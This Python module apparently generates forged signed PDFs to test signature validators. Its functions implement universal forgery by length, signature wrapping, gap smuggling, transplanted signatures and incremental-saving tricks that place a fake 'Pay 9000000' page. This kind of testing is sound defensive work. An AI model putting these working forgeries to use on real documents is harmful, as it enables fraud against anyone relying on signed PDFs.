"""Universal forgery, signature wrapping and incremental saving: files built by hand so that readers disagree."""

import re

import attacks_fields as fields
import attacks_makers as makers
from pyhanko.pdf_utils.reader import PdfFileReader

FORGED = b'q 1 1 1 rg 90 660 400 60 re f Q BT 100 690 Td (Pay 9000000) Tj ET'


def _parts(pdf: bytes) -> tuple[int, int, int]:
    found = list(re.finditer(rb'/ByteRange ?\[ ?0 (\d+) (\d+) (\d+)', pdf))[-1]
    start, end, length = map(int, found.groups())
    return start, end, length


def _reader(pdf: bytes) -> PdfFileReader:
    return makers.reader(pdf)


def _content(pdf: bytes) -> int:
    """The object number of the first page's content."""
    return _reader(pdf).root['/Pages']['/Kids'][0].raw_get('/Contents').reference.idnum


def _startxref(pdf: bytes) -> int:
    return int(re.findall(rb'startxref\s+(\d+)', pdf)[-1])


def stream(number: int, data: bytes = FORGED) -> bytes:
    return b'%d 0 obj\n<</Length %d>>\nstream\n%s\nendstream\nendobj\n' % (number, len(data), data)


def revision(pdf: bytes, objects: dict[int, bytes]) -> bytes:
    """Give the bytes of one more revision with a correct table; objects: number to the whole object."""
    reader = _reader(pdf)
    body, offsets = b'\n', {}
    for number, data in objects.items():
        offsets[number] = len(pdf) + len(body)
        body += data
    table = b'xref\n' + b''.join(b'%d 1\n%010d 00000 n \n' % (number, at) for number, at in sorted(offsets.items()))
    size = max(int(reader.trailer['/Size']), max(objects) + 1)
    trailer = b'trailer\n<</Size %d/Root %d 0 R/Prev %d>>\n' % (size, reader.root_ref.idnum, _startxref(pdf))
    return body + table + trailer + b'startxref\n%d\n%%%%EOF\n' % (len(pdf) + len(body))


def _literal(data: bytes) -> bytes:
    for byte in (b'\\', b'(', b')', b'\r'):
        data = data.replace(byte, b'\\' + (b'r' if byte == b'\r' else byte))
    return b'(' + data + b')'


def container_elsewhere(pdf: bytes) -> bytes:
    """Universal forgery by length: a new signature dictionary with the old byte range, and a container so long that
    range and container add up to the length of the whole file; what lies between is signed by nobody."""
    start, end, length = _parts(pdf)
    reference = fields.field_by_name(_reader(pdf), 'Signature1').raw_get('/V').reference
    container = bytes.fromhex(pdf[start + 1:end - 1].decode())

    def appended(padding: int) -> bytes:
        entry = (b'%d 0 obj\n<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/ETSI.CAdES.detached'
                 b'/ByteRange [0 %d %d %d]/Contents %s>>\nendobj\n'
                 % (reference.idnum, start, end, length, _literal(container + bytes(padding))))
        return revision(pdf, {reference.idnum: entry, _content(pdf): stream(_content(pdf))})

    padding = 0
    for _ in range(8):  # the offsets grow by a digit now and then
        missing = len(pdf) + len(appended(padding)) - start - length - 2 * (len(container) + padding) - 2
        padding += missing
    forged = pdf + appended(padding)
    assert start + length + 2 * (len(container) + padding) + 2 == len(forged)
    return forged


def wrapped(pdf: bytes) -> bytes:
    """Signature wrapping: the end of the file moves back, a table and another page come into the unsigned gap."""
    start, end, _ = _parts(pdf)
    table_at, tail = _startxref(pdf), pdf[end:]
    assert table_at > end
    room = 4 * len(pdf)
    moved = table_at + room - end
    rows = dict(_rows(pdf[table_at:], end, moved))
    number = _content(pdf)
    second = b' /ByteRange [0 %d %d %d]>>\nendobj\n' % (start, end + moved, len(tail))
    gap = pdf[start:end] + second
    rows[number] = start + len(gap)
    gap += stream(number)
    gap = gap.ljust(table_at - start)
    trailer = re.search(rb'trailer\s*<<.*?>>', pdf[table_at:], re.DOTALL)[0]
    gap += b'xref\n' + b''.join(b'%d 1\n%010d 00000 n \n' % row for row in sorted(rows.items())) + trailer + b'\n'
    return pdf[:start] + gap.ljust(end + moved - start) + tail


def _rows(table: bytes, end: int, moved: int):
    """Offsets of one table, those behind the gap moved."""
    lines = table[:table.index(b'trailer')].split(b'\n')[1:]
    number = 0
    for line in lines:
        if head := re.fullmatch(rb'(\d+) (\d+)\s*', line):
            number = int(head[1])
        elif row := re.match(rb'(\d{10}) \d{5} ([nf])', line):
            if row[2] == b'n':
                offset = int(row[1])
                yield number, offset + moved if offset >= end else offset
            number += 1


def gap_with_content(pdf: bytes) -> bytes:
    """The gap holds more than the container: objects behind the closing bracket, in place of its zeros."""
    start, end, _ = _parts(pdf)
    more = b'>/Reason(other)'
    assert pdf[end - 1 - len(more):end - 1] == b'0' * len(more)
    return pdf[:end - 1 - len(more)] + more + b' ' + pdf[end:]


def second_contents(pdf: bytes) -> bytes:
    """The dictionary has two containers: the signed one and, in the gap, another."""
    start, end, _ = _parts(pdf)
    more = b'> /Contents <00'
    assert pdf[end - 1 - len(more):end - 1] == b'0' * len(more)
    return pdf[:end - 1 - len(more)] + more + pdf[end - 1:]


def saved_without_table(pdf: bytes) -> bytes:
    """Incremental saving: objects and nothing that leads to them; readers that repair files take them in."""
    return pdf + b'\n' + stream(_content(pdf))


def saved_with_old_table(pdf: bytes) -> bytes:
    """Objects, then an end that points to the table of before."""
    return pdf + b'\n' + stream(_content(pdf)) + b'startxref\n%d\n%%%%EOF\n' % _startxref(pdf)


def saved_with_trailer_only(pdf: bytes) -> bytes:
    number = _reader(pdf).root_ref.idnum
    return (pdf + b'\n' + stream(_content(pdf)) + b'trailer\n<</Size 99/Root %d 0 R>>\nstartxref\n%d\n%%%%EOF\n'
            % (number, _startxref(pdf)))


def saved_with_table(pdf: bytes) -> bytes:
    return pdf + revision(pdf, {_content(pdf): stream(_content(pdf))})


def saved_with_broken_table(pdf: bytes) -> bytes:
    return pdf + revision(pdf, {_content(pdf): stream(_content(pdf))}).replace(b'xref\n', b'xrff\n', 1)


def saved_without_end(pdf: bytes) -> bytes:
    return pdf + revision(pdf, {_content(pdf): stream(_content(pdf))}).replace(b'%%EOF\n', b'')


def saved_with_own_history(pdf: bytes) -> bytes:
    """The new table says that nothing came before: /Prev skips the signed revision."""
    return pdf + re.sub(rb'/Prev \d+', b'/Prev 0', revision(pdf, {_content(pdf): stream(_content(pdf))}))


def saved_hybrid(pdf: bytes) -> bytes:
    """The change sits in a hidden table of a hybrid file, which old readers do not see."""
    number = _content(pdf)
    forged = stream(number)
    at = len(pdf) + 1
    rows = b'\x01' + at.to_bytes(4, 'big') + b'\x00'
    table_at = at + len(forged)
    size = int(_reader(pdf).trailer['/Size'])
    hidden = (b'%d 0 obj\n<</Type/XRef/Size %d/W[1 4 1]/Index[%d 1]/Length 6>>\nstream\n%s\nendstream\nendobj\n'
              % (size, size + 1, number, rows))
    end = table_at + len(hidden)
    return (pdf + b'\n' + forged + hidden + b'xref\n0 0\ntrailer\n<</Size %d/Root %d 0 R/Prev %d/XRefStm %d>>\n'
            b'startxref\n%d\n%%%%EOF\n' % (size + 1, _reader(pdf).root_ref.idnum, _startxref(pdf), table_at, end))


def signature_of_another_file(pdf: bytes) -> bytes:
    """A signature that is good elsewhere, put into this file's gap."""
    start, end, _ = _parts(pdf)
    other = makers.sign(makers.letter(form=True))
    begin, finish, _ = _parts(other)
    container = other[begin + 1:finish - 1].rstrip(b'0')
    return pdf[:start + 1] + container.ljust(end - start - 2, b'0') + pdf[end - 1:]


def rolled_back(pdf: bytes) -> bytes:
    """The file as it was after the first signature."""
    _, end, length = map(int, re.search(rb'/ByteRange ?\[ ?0 (\d+) (\d+) (\d+)', pdf).groups())
    return pdf[:end + length]
